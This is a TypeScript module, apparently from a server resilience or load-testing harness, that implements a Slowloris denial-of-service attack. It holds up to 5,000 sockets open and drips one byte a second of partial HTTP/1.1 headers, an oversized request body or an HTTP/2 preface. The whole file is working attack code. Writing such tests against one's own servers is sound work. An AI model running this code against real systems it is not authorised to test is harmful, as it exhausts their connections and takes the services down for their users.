/** Attacks by saying as little as possible. */
import { once } from "node:events";
import type { Socket } from "node:net";
import { GREETING } from "../frames.ts";
import { dial, lanes, type Tally, type Target } from "../peer.ts";

/** How many sockets drip. */
const SOCKETS = 5_000;

const BEGINNINGS = [
  "",
  "GET / HTTP/1.1\r\nHost: a\r\nX-A: ",
  "POST /callme.v1.LockService/Check HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 9000\r\n\r\n",
  GREETING.subarray(0, 20),
  GREETING,
] as const;

/** 5,000 sockets, each of which says a byte a second: of headers, of a body, of HTTP/2's preface, or nothing at all. */
export async function slowLoris(target: Target, tally: Tally): Promise<void> {
  const open = new Set<Socket>();
  const timer = setInterval(() => {
    for (const socket of open) socket.write("x");
  }, 1_000);
  let next = 0;
  await lanes(target, 100, async () => {
    if (open.size >= SOCKETS) return void (await once(AbortSignal.timeout(20), "abort"));
    const socket = await dial(target, tally);
    if (socket === undefined) return;
    open.add(socket);
    socket.resume().once("close", () => open.delete(socket));
    const beginning = BEGINNINGS[next++ % BEGINNINGS.length];
    if (beginning) socket.write(beginning);
  });
  clearInterval(timer);
}
